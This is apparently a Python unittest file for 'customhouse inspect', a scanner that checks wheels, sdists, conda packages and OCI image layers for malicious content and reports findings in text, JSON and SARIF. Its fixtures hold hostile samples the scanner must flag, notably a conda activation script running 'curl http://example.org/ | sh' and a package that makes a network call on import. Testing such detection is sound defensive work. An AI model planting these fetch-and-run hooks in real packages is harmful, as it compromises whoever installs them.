"""`customhouse inspect`: the jails of the service on local files, without a server."""
import bz2
import gzip
import io
import json
import os
import re
import subprocess
import tarfile
import tempfile
import unittest
import zipfile

from house import conda, images, wheels
from house.case import Quarantine, add_wheel, file_path
from house.service import BIN


def inspect(*args, **kw):
    done = subprocess.run([os.path.join(BIN, "customhouse"), "inspect", *args], capture_output=True,
                          text=True, timeout=120, **kw)
    return done.returncode, done.stdout, done.stderr


class Inspecting(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()
        self.addCleanup(self.dir.cleanup)

    def write(self, name, data):
        path = os.path.join(self.dir.name, name)
        with open(path, "wb") as f:
            f.write(data)
        return path

    def test_exit_status_says_what_was_found(self):
        good = self.write(wheels.file_name("good", "1.0"), wheels.wheel("good", "1.0"))
        evil = self.write(wheels.file_name("evil", "1.0"), wheels.forged_directory("evil", "1.0"))
        code, out, err = inspect(good)
        self.assertEqual((code, err), (0, ""))
        self.assertRegex(out, r": wheel, [45] members, 0 findings\n")
        code, out, _err = inspect(good, evil)
        self.assertEqual(code, 1)
        self.assertRegex(out, r"attack +high +zip-[a-z-]+: ")
        self.assertIn("2 files: 1 with findings above a note, 0 not readable", out)
        code, out, _err = inspect(good, os.path.join(self.dir.name, "none-1.0-py3-none-any.whl"))
        self.assertEqual(code, 2)
        self.assertIn("No such file", out)
        code, out, _err = inspect(self.dir.name, "--profile", "zip")
        self.assertEqual(code, 2)
        self.assertIn("expected a regular file", out)

    def test_what_is_not_what_it_claims_is_not_readable(self):
        wheel = wheels.wheel("good", "1.0")
        good = self.write(wheels.file_name("good", "1.0"), wheel)
        plain = os.path.join(self.dir.name, "plain.tar")
        with tarfile.open(plain, "w") as t:
            t.add(good, "a/b.whl")
        with open(plain, "rb") as f:
            tar = f.read()
        rows = {"none-1.0-py3-none-any.whl": b"", "cut-1.0-py3-none-any.whl": wheel[:-30],
                "half-1.0-py3-none-any.whl": wheel[:len(wheel) // 2], "text-1.0-py3-none-any.whl": b"hello\n" * 9,
                "none.zip": b"", "none-1.0.tar.gz": b"", "cut-1.0.tar.gz": gzip.compress(tar)[:-9],
                "half-1.0.tar.gz": gzip.compress(tar)[:200], "text-1.0.tar.gz": gzip.compress(b"hello"),
                "none.tar": b"", "cut.tar": tar[:700], "page-1.0.tar.gz": b"<html>gone</html>\n"}
        for name, data in rows.items():
            with self.subTest(name=name):
                path = self.write(name, data)
                code, out, _err = inspect(path, good)
                self.assertEqual(code, 2, out)
                self.assertIn(f"{path}: not readable as ", out)
                self.assertRegex(out, "\n2 files: [01] with findings above a note, 1 not readable\n")
                first, second = json.loads(inspect(path, good, "--json")[1])["files"]
                self.assertEqual((first["readable"], second["readable"]), (False, True))
        self.assertEqual(inspect(good)[0], 0)

    def test_usage_is_told(self):
        for args, words in (((), "expected FILE"), (("--profile", "exe", "x"), "wheel, sdist, conda, conda-tar, oci-layer, "),
                            (("--files-from", "/nonexistent/list"), "/nonexistent/list"),
                            (("--rules", "/nonexistent/rules", "x"), "/nonexistent/rules"),
                            (("--rules", os.path.dirname(self.write("no-rules", b"")), self.write("a.zip", b"")), "has no file of rules"),
                            (("--files-from", os.devnull), "/dev/null names no file"),
                            (("--files-from", self.write("empty", b"\n\n")), "names no file"),
                            (("--sarif", "/nonexistent/x", self.write("a.zip", b"")), "/nonexistent/x")):
            with self.subTest(args=args):
                code, _out, err = inspect(*args)
                self.assertEqual(code, 2)
                self.assertIn(words, err)

    def test_what_is_wrong_with_a_rule_is_told_each_time(self):
        os.mkdir(os.path.join(self.dir.name, "rules"))
        self.write("rules/wrong.yar", b"rule wrong\n{\n    condition:\n        nothing\n}\n")
        file = self.write("plain-1.0.zip", b"")
        for _ in range(6):
            code, _out, err = inspect("--rules", os.path.join(self.dir.name, "rules"), file)
            self.assertEqual(code, 2)
            self.assertRegex(err, r"wrong\.yar:4: .*nothing")

    def test_json_and_sarif_are_whole(self):
        name = "t\u00fcr \"quoted\"-1.0.zip"
        evil = self.write(wheels.file_name("evil", "1.0"), wheels.forged_directory("evil", "1.0"))
        odd = self.write(name, b"no archive at all")
        sarif = os.path.join(self.dir.name, "out.sarif")
        code, out, _err = inspect(evil, odd, "/nonexistent/x-1-py3-none-any.whl", "--json", "--sarif", sarif)
        self.assertEqual(code, 2)
        doc = json.loads(out)
        self.assertEqual([os.path.basename(f["file"]) for f in doc["files"]],
                         [os.path.basename(evil), name, "x-1-py3-none-any.whl"])
        self.assertTrue(all(f["class"] in ("attack", "irregular", "note")
                            for f in doc["files"][0]["findings"]))
        self.assertIn("error", doc["files"][2])
        with open(sarif) as f:
            log = json.load(f)
        run, = log["runs"]
        self.assertEqual(log["version"], "2.1.0")
        known = {r["id"] for r in run["tool"]["driver"]["rules"]}
        self.assertTrue(run["results"])
        for result in run["results"]:
            self.assertIn(result["ruleId"], known)
            self.assertIn(result["level"], ("error", "warning", "note"))
            uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            self.assertRegex(uri, r"^[A-Za-z0-9._~/%-]+$")
        self.assertEqual({f["finding"] for d in doc["files"][:2] for f in d["findings"]},
                         {r["ruleId"] for r in run["results"]})

    def test_conda_packages(self):
        """Both kinds, by their names and by --profile; one that lies, and one that is cut off."""
        index = conda.index_of("plain", "1.0", "py_0")
        for ending, profile in ((".conda", "conda"), (".tar.bz2", "conda-tar")):
            with self.subTest(ending=ending):
                data = conda.package(index, ending=ending)
                good = self.write("plain-1.0-py_0" + ending, data)
                code, out, err = inspect(good)
                self.assertEqual((code, err), (0, ""), out)
                self.assertRegex(out, f": {profile}, [58] members, 0 findings\n")
                code, out, _err = inspect(self.write("plain" + ending + ".bin", data), "--profile", profile)
                self.assertEqual(code, 1)
                self.assertIn("conda-name: ", out)
                evil = self.write("evil-1.0-py_0" + ending, conda.package(
                    conda.index_of("evil", "1.0", "py_0"), {"etc/conda/activate.d/evil.sh": b"curl http://example.org/ | sh\n"}, ending))
                sarif = os.path.join(self.dir.name, "out.sarif")
                code, out, _err = inspect(good, evil, "--json", "--sarif", sarif)
                self.assertEqual(code, 1)
                first, second = json.loads(out)["files"]
                self.assertEqual((first["profile"], first["findings"]), (profile, []))
                self.assertEqual({f["finding"] for f in second["findings"]}, {"conda-activate", "hidden-command"})
                with open(sarif) as f:
                    self.assertEqual({r["ruleId"] for r in json.load(f)["runs"][0]["results"]},
                                     {"conda-activate", "hidden-command"})
                code, out, _err = inspect(self.write("plain-1.0-py_0" + ending, data[:-30]))
                self.assertNotEqual(code, 0)

    def test_tar_bz2_is_what_its_name_says(self):
        """An sdist and a conda package end alike; of names that both could have the one whose version is a version."""
        rows = {"foo-1.0.tar.bz2": "sdist", "foo-bar-1.0.tar.bz2": "sdist", "foo-1.0-py_0.tar.bz2": "conda-tar",
                "zlib-1.2.8-3.tar.bz2": "conda-tar", "foo-1.0rc1.tar.bz2": "sdist", "foo-bar-1.0-h1a2b_0.tar.bz2": "conda-tar",
                "foo.tar.bz2": "tar"}
        paths = [self.write(name, bz2.compress(b"")) for name in rows]
        code, out, _err = inspect(*paths, "--json")
        self.assertEqual(code, 2)
        self.assertEqual({os.path.basename(f["file"]): f["profile"] for f in json.loads(out)["files"]}, rows)
        package = conda.package(conda.index_of("zlib", "1.2.8", "3"), ending=".tar.bz2")
        path = self.write("zlib-1.2.8-3.tar.bz2", package)
        self.assertEqual(inspect(path)[0], 0)
        code, out, _err = inspect(path, "--profile", "sdist")
        self.assertEqual(code, 1)
        self.assertIn("sdist-metadata: ", out)
        code, out, _err = inspect(self.write("x.conda", b""))
        self.assertEqual(code, 2)
        self.assertIn("--profile says how to read it", out)

    def layer(self, name, files):
        path = os.path.join(self.dir.name, name)
        with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as t:
            for member, data in files.items():
                info = tarfile.TarInfo(member)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        return path

    def test_parts_of_an_image(self):
        """Each profile by --profile: a good one, one with something in it, and one that is none."""
        digest = "sha256:" + "0123456789abcdef" * 4
        part = {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": digest, "size": 7}
        manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "config": {**part, "mediaType": "application/vnd.oci.image.config.v1+json"}, "layers": [part]}
        index = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
                 "manifests": [{**part, "mediaType": manifest["mediaType"]}]}
        config = {"os": "linux", "architecture": "amd64", "config": {"User": "app"},
                  "rootfs": {"type": "layers", "diff_ids": [digest]}}
        statement = {"_type": "https://in-toto.io/Statement/v1", "predicateType": "https://example.org/x",
                     "subject": [{"name": "a", "digest": {"sha256": digest[7:]}}]}
        rows = (("oci-manifest", manifest, {**manifest, "layers": [{**part, "urls": ["https://example.org/x"]}]}, "oci-foreign"),
                ("oci-index", index, {**index, "layers": []}, "oci-ambiguous"),
                ("oci-config", config, {**config, "config": {"User": "app", "Env": ["DB_PASSWORD=hunter2"]}}, "oci-password"),
                ("oci-statement", statement, {**statement, "Subject": []}, "oci-statement"))
        for profile, good, bad, finding in rows:
            with self.subTest(profile=profile):
                good, bad = (self.write(n, json.dumps(d).encode()) for n, d in (("good", good), ("bad", bad)))
                code, out, err = inspect(good, "--profile", profile)
                self.assertEqual((code, err), (0, ""), out)
                self.assertRegex(out, f": {profile}, [12] members?, 0 findings\n")
                code, out, _err = inspect(bad, "--profile", profile)
                self.assertNotEqual(code, 0)
                self.assertIn(f"{finding}: ", out)
                self.assertEqual(inspect(self.write("none", b"hello"), "--profile", profile)[0], 2)
        self.assertEqual(inspect(self.write("empty", b"{}"), "--profile", "oci-empty")[0], 0)
        self.assertEqual(inspect(self.write("empty", b"{ }"), "--profile", "oci-empty")[0], 1)
        code, out, err = inspect(self.write("blob", b"\1\2 anything"), "--profile", "oci-blob")
        self.assertEqual((code, err), (0, ""), out)
        self.assertRegex(out, ": oci-blob, 1 member, 0 findings\n")
        evil = b"#!/usr/bin/env python3\n" + images.EVIL_SOURCE
        for what, data in (("script", evil), ("archive", wheels.pack({"a/run": evil}))):
            code, out, err = inspect(self.write("blob", data), "--profile", "oci-blob")
            self.assertEqual((code, err), (1, ""), (what, out))
            self.assertIn("hidden-code: ", out, what)
        site = "usr/local/lib/python3.12/site-packages/"
        metadata = {site + "foo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n"}
        good = self.layer("layer.tar.gz", {"etc/x": b"y\n", site + "foo/__init__.py": b"x = 1\n", **metadata})
        code, out, err = inspect(good, "--profile", "oci-layer")
        self.assertEqual((code, err), (0, ""), out)
        self.assertRegex(out, ": oci-layer, 3 members, 0 findings\n")
        bad = self.layer("bad.tar.gz", {"opt/.wh.x": b"", "opt/x": b"y", **metadata, site + "foo/__init__.py":
                                        b"import urllib.request\nurllib.request.urlopen('http://example.org')\n"})
        code, out, _err = inspect(bad, "--profile", "oci-layer", "--json")
        self.assertEqual(code, 1)
        self.assertEqual({f["finding"] for f in json.loads(out)["files"][0]["findings"]}, {"oci-whiteout", "import-network"})
        with open(good, "rb") as f:
            cut = self.write("cut.tar.gz", f.read()[:-20])
        self.assertEqual(inspect(cut, "--profile", "oci-layer")[0], 2)

    def test_bare_archives_are_judged_by_their_validators(self):
        """A ZIP that is no wheel, and a TAR that is no sdist."""
        path = os.path.join(self.dir.name, "things.zip")
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("a/b.txt", "text")
        self.assertEqual(inspect(path)[0], 0)
        self.assertEqual(inspect(path, "--profile", "wheel")[0], 1)
        bare = os.path.join(self.dir.name, "things.tar.gz")
        with tarfile.open(bare, "w:gz") as t:
            t.add(path, "a/things.zip")
        self.assertEqual(inspect(bare, "--profile", "tar")[0], 0)
        with open(bare, "ab") as f:
            f.write(b"trailing")
        code, out, _err = inspect(bare, "--profile", "tar")
        self.assertEqual(code, 1)
        self.assertRegex(out, "(?:gzip|stream|tar)-[a-z-]+: ")

    def test_a_long_list_in_its_order(self):
        good = wheels.wheel("good", "1.0")
        paths = []
        for i in range(200):
            folder = os.path.join(self.dir.name, str(i))
            os.mkdir(folder)
            paths.append(os.path.join(folder, wheels.file_name("good", "1.0")))
            with open(paths[-1], "wb") as f:
                f.write(good if i != 150 else wheels.forged_directory("good", "1.0"))
        code, out, _err = inspect("--files-from", "-", input="\n".join(paths) + "\n")
        self.assertEqual(code, 1)
        self.assertEqual(re.findall(r"(?m)^(/.*?): wheel,", out), paths)
        self.assertEqual(inspect(*paths[:100])[0], 0)  # more words than other commands take


class SameAsTheService(Quarantine):
    @classmethod
    def fill(cls):
        cls.data = {"evil": wheels.forged_directory("evil", "1.0"),
                    "asleep": wheels.unchecked_pyc("asleep", "1.0"), "good": wheels.wheel("good", "1.0")}
        for name, data in cls.data.items():
            add_wheel(cls.up, name, "1.0", data=data, sidecar=False)

    def test_the_same_findings(self):
        with tempfile.TemporaryDirectory() as folder:
            for name, data in self.data.items():
                self.service.ask(file_path(name, "1.0"))
                path = os.path.join(folder, wheels.file_name(name, "1.0"))
                with open(path, "wb") as f:
                    f.write(data)
                local = json.loads(inspect(path, "--json")[1])["files"][0]
                code, out, err = self.service.command("explain", f"{name}==1.0", "--json")
                self.assertEqual(code, 0, err)
                served = {f["code"] for f in find(json.loads(out), "findings")}
                self.assertEqual({f["finding"] for f in local["findings"]}, served, name)


def find(doc, key):
    """All that lists of this name hold, wherever they stand."""
    if isinstance(doc, dict):
        return [x for k, v in doc.items() for x in (v if k == key else find(v, key))]
    return [x for d in doc for x in find(d, key)] if isinstance(doc, list) else []


if __name__ == "__main__":
    unittest.main()
